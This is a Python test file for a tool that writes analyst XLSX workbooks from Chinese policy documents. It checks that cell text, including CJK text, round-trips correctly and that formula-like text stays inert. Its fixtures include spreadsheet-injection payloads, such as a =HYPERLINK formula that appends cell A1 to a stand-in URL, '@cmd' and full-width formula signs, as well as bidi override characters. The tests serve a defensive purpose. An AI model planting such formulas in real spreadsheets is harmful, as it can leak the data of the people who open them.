"""The analysts' workbook: every cell reads back as written, and text always stays text."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from briefing import workbook
from briefing.workbook import Sheet, workbook_bytes

MAX_STRING = 32_767  # Excel's cell limit, in UTF-16 code units

WHEN = datetime(2024, 12, 31)

TRICKY: list[list[object]] = [
    [1, "=SUM(A1:A2)", "@cmd", "+1", "-1", "http://example.com"],
    [2, " 前导空格", "尾随空格 ", "\u3000全角空格", "换行\n结尾\n", "tab\tinside"],
    [3, "a & b < c > d", "_x0041_ 看起来像转义", "\x01控制\x1f字符", '"quoted"', "'apostrophe"],
    [4, "", "空单元格在左", "", 0, -3],
    [5, 2.5, 1e20, 0.1, 123456789012345678, "仍是文本 12.5"],
    [6, "x" * (MAX_STRING + 10), "𠀀" * (MAX_STRING // 2 + 5), "中文" * 100, "", ""],
]


def _sheets(rows: Sequence[Sequence[object]]) -> list[Sheet]:
    header = [f"列{letter}" for letter in "ABCDEF"]
    widths = (6, 30, 12, 12, 40, 8)
    return [
        Sheet("措施", header, len(rows), iter(rows), widths),
        Sheet("空表", header, 0, iter([])),
    ]


@pytest.fixture(params=["shared strings", "constant memory"])
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Both ways a workbook is written: a month's, and one too big to hold in memory."""
    if request.param == "constant memory":
        monkeypatch.setattr(workbook, "CONSTANT_MEMORY_ROWS", 0)
    return str(request.param)


def test_the_workbook_reads_back_as_written(tmp_path: Path, mode: str) -> None:
    path = tmp_path / "x.xlsx"
    path.write_bytes(
        workbook_bytes(_sheets(TRICKY), timestamp=WHEN, title="数据表", author="briefing")
    )
    book = load_workbook(path)
    sheet = book["措施"]
    assert sheet.freeze_panes == "A2"
    assert round(sheet.column_dimensions["E"].width) == 41  # 40 characters, plus Excel's padding
    assert sheet["A1"].value == "列A" and sheet["A1"].font.b
    assert sheet["B2"].value == "=SUM(A1:A2)" and sheet["B2"].data_type == "s"
    assert sheet["B3"].value == " 前导空格" and sheet["D3"].value == "\u3000全角空格"
    # Excel reads the escaped underscore back as "_"; openpyxl leaves inline strings as stored
    assert sheet["C4"].value.endswith("_x0041_ 看起来像转义")
    assert sheet["D4"].value == "控制字符"  # characters XML cannot carry are dropped
    assert sheet["B5"].value is None and sheet["E5"].value == 0
    assert sheet["B6"].value == 2.5 and sheet["D6"].value == 0.1
    assert len(sheet["B7"].value) == MAX_STRING
    assert sheet["D7"].value == "中文" * 100  # the cells after a cut one are still written
    assert sheet.max_row == len(TRICKY) + 1
    assert book["空表"].max_row == 1
    assert book.properties.title == "数据表" and book.properties.created == WHEN


def test_text_that_starts_like_a_formula_stays_text_when_a_reader_edits_it(
    tmp_path: Path, mode: str
) -> None:
    """OWASP's CSV-injection escape, in XLSX form: the cell carries Excel's quote prefix (the
    leading single quote), so pressing Enter in it keeps text instead of making a live
    =HYPERLINK; its text reads back unchanged, and other text gets no prefix."""
    link = '=HYPERLINK("http://x.example/?"&A1,"点击查看")'
    rows: list[list[object]] = [
        [1, link, "@SUM(1+1)", "+86 10", "-5%", "\t=1"],
        [2, "科技", "", "", 3, ""],
    ]
    path = tmp_path / "x.xlsx"
    path.write_bytes(workbook_bytes(_sheets(rows), timestamp=WHEN, title="t", author="a"))
    sheet = load_workbook(path)["措施"]
    for cell, text in zip(sheet[2][1:], rows[0][1:], strict=True):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert not sheet["B3"].quotePrefix and not sheet["E3"].quotePrefix
    assert not sheet["B1"].quotePrefix  # the bold header keeps its own format


def test_full_width_formula_signs_get_the_quote_prefix_too(tmp_path: Path, mode: str) -> None:
    """Round 15: the full-width ＝＋－＠ a Chinese input method types (and the small forms) start
    a formula in Chinese and Japanese Excel and WPS as the ASCII signs do; they had no prefix."""
    rows: list[list[object]] = [
        [1, '＝HYPERLINK("http://x.example/","点击")', "＋86 10", "－5%", "＠SUM(1+1)", "﹦1+1"],
        [2, "科技＝创新", "\u3000＝1", "", 3, ""],
    ]
    path = tmp_path / "x.xlsx"
    path.write_bytes(workbook_bytes(_sheets(rows), timestamp=WHEN, title="t", author="a"))
    sheet = load_workbook(path)["措施"]
    for cell, text in zip(sheet[2][1:], rows[0][1:], strict=True):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert not sheet["B3"].quotePrefix and not sheet["C3"].quotePrefix


def test_text_that_looks_like_markup_stays_text(tmp_path: Path, mode: str) -> None:
    # XlsxWriter writes such a string as raw XML.
    rows: list[list[object]] = [[1, "<r><t>注入</t></r>", "", "", "", ""]]
    path = tmp_path / "x.xlsx"
    path.write_bytes(workbook_bytes(_sheets(rows), timestamp=WHEN, title="t", author="a"))
    assert load_workbook(path)["措施"]["B2"].value == "<r><t>注入</t></r>"


def test_a_figure_no_spreadsheet_can_hold_is_written_as_text(tmp_path: Path, mode: str) -> None:
    rows: list[list[object]] = [[1, float("inf"), float("nan"), "", "", ""]]
    path = tmp_path / "x.xlsx"
    path.write_bytes(workbook_bytes(_sheets(rows), timestamp=WHEN, title="t", author="a"))
    sheet = load_workbook(path)["措施"]
    assert (sheet["B2"].value, sheet["C2"].value) == ("inf", "nan")


def test_same_rows_same_bytes(mode: str) -> None:
    def make() -> bytes:
        return workbook_bytes(_sheets(TRICKY), timestamp=WHEN, title="t", author="a")

    assert make() == make()


def test_the_workbook_names_and_counts_documents_as_the_briefing_does() -> None:
    """A reader compares the XLSX with the DOCX: an untitled document carries the same marked
    name (a made name, marked 拟题; its file in the 文件 column, never in the name), and a policy's planned measures are 规定 there as in the 简报's
    进展／规定／计划 counts."""
    from briefing.digest import shown_title
    from briefing.model import ExtractedDocument, Measure, Metadata

    untitled = ExtractedDocument(
        source="in/huizhou-reply.txt",
        sha256="1" * 64,
        format="text",
        metadata=Metadata(title=None, display_title="无标题文件"),
        body="市科技局:\n现提出以下会办意见。",
    )
    policy = ExtractedDocument(
        source="in/policy.txt",
        sha256="2" * 64,
        format="text",
        metadata=Metadata(
            title="某市人民政府关于印发某市支持科技创新若干政策措施的通知",
            display_title="某市人民政府关于印发某市支持科技创新若干政策措施的通知",
        ),
        body="对新认定的高新技术企业，给予20万元奖励。",
    )
    policy.measures = [
        Measure(
            id="m1",
            text="对新认定的高新技术企业，给予20万元奖励。",
            section=(),
            status="planned",
            themes=[],
        )
    ]
    sources, measures, _ = workbook.analyst_sheets([untitled, policy])
    rows = list(sources.rows)
    assert rows[0][1] == shown_title(untitled) == "未署标题的材料（拟题）"
    assert rows[0][7] == "in/huizhou-reply.txt"
    assert [row[4] for row in measures.rows] == ["规定"]


def _open_scope_before(text: str, tail: str) -> bool:
    """Whether `tail` in `text` stands inside a direction override, embedding or isolate left
    open before it (shown turned round)."""
    depth = 0
    for index, char in enumerate(text):
        if char in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068":
            depth += 1
        elif char in "\u202c\u2069" and depth:
            depth -= 1
        elif depth and text.startswith(tail, index):
            return True
    return False


def test_a_direction_override_a_heading_leaves_open_turns_round_nothing_after_it() -> None:
    """Round 17: the workbook puts a measure's headings in one cell (一、总体要求 / （一）…), and a
    made title is the text's words with the briefing's （拟题） after them: an RLO left open in
    one heading turned round the separator and the next heading (shown 究研础基强加）一（ / ), one
    in the words a made title is taken from turned its mark round. Each piece now closes what it
    opens; the text shows as written."""
    from briefing.digest import shown_title
    from briefing.model import ExtractedDocument, Measure, Metadata

    doc = ExtractedDocument(
        source="in/a.txt",
        sha256="1" * 64,
        format="text",
        metadata=Metadata(title=None, display_title="2023年全市科技系统\u202e", title_derived=True),
        body="全市研发投入达到15亿元。",
    )
    doc.measures = [
        Measure(
            id="m1",
            text="全市研发投入达到15亿元。",
            section=("一、总体要求\u202e", "（一）加强基础研究\u2067"),
            status="done",
            themes=[],
        )
    ]
    sources, measures, _ = workbook.analyst_sheets([doc])
    (row,) = measures.rows
    scopes = str(row[3])
    assert scopes.startswith("一、总体要求\u202e") and "（一）加强基础研究\u2067" in scopes
    assert not _open_scope_before(scopes, " / ")
    title = shown_title(doc)
    assert title.startswith("2023年全市科技系统\u202e") and title.endswith("（拟题）")
    assert not _open_scope_before(title, "（拟题）")
    (source,) = sources.rows
    assert source[1] == title


def test_a_figure_a_page_prints_twice_is_marked_as_a_repeat_in_the_data_sheet() -> None:
    # a page repeating its paragraph: the second 58.2亿元 and 95家 say which figure they repeat;
    # the same count in two different sentences (两个12个项目) is two results, no repeat
    from briefing.extract.duplicates import link_duplicates
    from briefing.model import RawDocument
    from briefing.pipeline import extract_document
    from briefing.themes import Classifier, load_lexicon

    classifier = Classifier(load_lexicon())
    text = (
        "（一）强化基础研究。2023年，全区12个项目入选省重点研发计划。\n"
        "（二）加快成果转化。2023年，全区12个项目获得省科技进步奖。\n"
        "2023年，全区研发经费投入总量达到58.2亿元，新增高新技术企业95家。\n"
        "2023年，全区研发经费投入总量达到58.2亿元，新增高新技术企业95家。\n"
    )
    page = extract_document(RawDocument("page.txt", "text", "0" * 64, text), classifier)
    link_duplicates([page])
    *_, data = workbook.analyst_sheets([page])
    assert data.header[-2] == "重复于"
    rows = [(row[2], row[4], row[-2]) for row in data.rows]
    assert [(value, repeat) for _, value, repeat in rows] == [
        (12, ""),
        (12, ""),
        (58.2, ""),
        (95, ""),
        (58.2, rows[2][0]),
        (95, rows[3][0]),
    ]
